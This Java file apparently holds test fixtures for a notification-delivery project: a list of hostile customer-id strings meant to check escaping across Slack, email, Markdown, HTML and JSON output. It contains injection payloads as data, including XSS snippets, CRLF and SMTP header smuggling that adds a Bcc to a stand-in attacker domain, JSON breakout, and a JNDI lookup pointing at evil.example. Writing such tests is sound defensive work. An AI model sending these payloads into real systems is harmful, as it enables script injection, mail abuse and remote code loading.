package io.journeytracker.delivery.targets;

import java.util.List;

/** Texts that somebody might send as a customer's id to reach more than the place where it is shown. */
final class HostileNames {

    static final List<String> ALL = List.of(
            "c-1",
            "<!channel> <!here|x> <@U12345678> <#C123|general> <https://evil.example|click>",
            "@here @channel @EVERYONE @all",
            "*bold* _it_ ~gone~ `code` ```block``` :rotating_light:",
            "[click](https://evil.example) [x][y] ![i](https://evil.example/i.png)",
            "a\r\nBcc: victim@evil.example\r\n\r\nbody",
            "a\nX-Evil: 1",
            "a\rSubject: evil",
            "a\u0085b\u2028c\u2029d\u000be\u0000f",
            "\u202eevil\u2066\u200f\ufeff\u200d",
            "=?utf-8?Q?=0D=0ABcc:_victim@evil.example?=",
            "%0d%0aBcc:victim@evil.example",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "\" onmouseover=\"alert(1)\" '",
            "</li></ul><a href='javascript:alert(1)'>x</a>",
            "&lt;script&gt; &amp; &#60;b&#62;",
            "\"},\"routing_key\":\"x\",\"blocks\":[{\"",
            "\\\",\\u0022",
            "{0} {1} '{2}' '' ${jndi:ldap://evil.example/a} {{ .Labels }}",
            ".\r\n.\r\nMAIL FROM:<evil@evil.example>",
            "\ud800 lone \udc00",
            "😀".repeat(700),
            "&<>".repeat(1_500),
            "x".repeat(5_000));

    private HostileNames() {}
}
